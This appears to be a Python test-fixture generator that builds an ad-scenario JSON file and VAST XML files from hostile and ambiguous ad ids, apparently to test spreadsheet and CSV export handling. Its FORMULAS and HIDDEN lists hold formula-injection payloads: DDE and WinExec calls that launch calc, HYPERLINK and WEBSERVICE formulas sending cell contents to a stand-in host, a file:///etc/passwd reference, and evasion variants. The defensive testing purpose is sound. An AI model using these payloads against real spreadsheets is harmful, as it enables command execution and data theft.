"""A scenario of names that programs take for something else.

    hostile.py SCENARIO.json

Each name is the id of an ad, in a cell of its own; those that a publisher may have
are its id, too. Beside the scenario it writes documents.
"""

import json
import re
import sys
from pathlib import Path

# What spreadsheets have run, fetched or linked to, and ways to hide it.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "\t\t+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://a.example/?"&A1;"open")',
    '=HYPERLINK("http://a.example/?"&A1,"open")',
    '@HYPERLINK("http://a.example")',
    '=WEBSERVICE("http://a.example/"&A1)',
    '=IMPORTXML("http://a.example/","//x")',
    '=IMPORTDATA("http://a.example/")',
    '=IMAGE("http://a.example/x.png")',
    "='file:///etc/passwd'#$passwd.A1",
    "=[book.xlsx]Sheet1!A1",
    "=A1",
    "=$A$1:B2",
    "=SUM(A:A)",
    "=-1",
    "=+1",
    "=@A1",
    "={1,2;3,4}",
    "=TRUE()",
    '="quoted"',
    '=1+1,=2+2',
    "=1\n=2",
    '=1","=2',
    '=1"\n"=2',
    '=INDIRECT("A1")',
    '=CALL("kernel32","WinExec","JFJ","calc",0)',
    '=RTD("x",,"y")',
    "=NOW()",
    "=1/0",
    "--1",
    "+-1",
    "-1",
    "+1",
    "-",
    "=",
    "@",
    "+49 30 1234567",
    "-1e308",
]

# Nothing is put in front of these: they do not begin as a formula does.
HIDDEN = [
    '"=1+1"',
    "\"=1+1",
    ",=1+1",
    ";=1+1",
    "a,=1+1",
    'a","=1+1',
    "a\n=1+1",
    "a\r\n=1+1",
    "a\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "|=1+1",
    "%=1+1",
    "{=1+1}",
    "http://a.example/",
    "https://a.example/?q=1",
    "www.a.example",
    "mailto:a@a.example",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "#REF!",
]

# Words and digits that readers without a type take for something else.
WORDS = [
    "NA",
    "N/A",
    "null",
    "NULL",
    "None",
    "nan",
    "NaN",
    "<NA>",
    "inf",
    "true",
    "FALSE",
    "1e5",
    "007",
    "0x10",
    "1_000",
    "1,234",
    "1.50",
    "12345678901234567890",
    "2026-01-31",
    "1/2",
    "12:30",
    "10%",
    "$5",
    "(5)",
    "e",
    "'",
    "''",
    '"',
    '""',
    "'quoted'",
    "a b",
    "tab\there",
    "naïve ✓ 広告 🎬",
    "x" * 128,
]


# What the names of scenarios and publishers are made of.
PLAIN = re.compile(r"[A-Za-z0-9_-][A-Za-z0-9._-]{0,63}")


def scenario(folder):
    names = enumerate(FORMULAS + HIDDEN + WORDS)
    return {
        "name": "-1.5e3",
        "seed": "18446744073709551615",
        "sessions": 1000,
        "ad": {"duration": "00:00:07.500"},
        "provider": "google",
        "matrix": {"include": [cell(folder, place, name) for place, name in names]},
    }


def cell(folder, place, name):
    if not name.isprintable():
        return {"ad.vast": document(folder, place, name)}
    publisher = {"publisher.id": name} if PLAIN.fullmatch(name) else {}
    return {"ad.id": name, **publisher}


def document(folder, place, name):
    """The name of a file that brings what a scenario may not say: control characters."""
    written = "".join(f"&#{ord(character)};" for character in name)
    path = folder / f"{place}.xml"
    path.write_text(VAST.format(id=written), encoding="utf-8")
    return path.name


VAST = """<VAST version="4.2"><Ad id="{id}"><InLine>
<AdSystem>x</AdSystem><AdTitle>x</AdTitle><Impression>https://a.example/</Impression>
<Creatives><Creative><Linear><Duration>00:00:07</Duration><MediaFiles>
<MediaFile delivery="progressive" type="video/mp4" width="1" height="1">https://a.example/x</MediaFile>
</MediaFiles></Linear></Creative></Creatives></InLine></Ad></VAST>"""


if __name__ == "__main__":
    path = Path(sys.argv[1])
    path.write_text(json.dumps(scenario(path.parent)), encoding="utf-8")
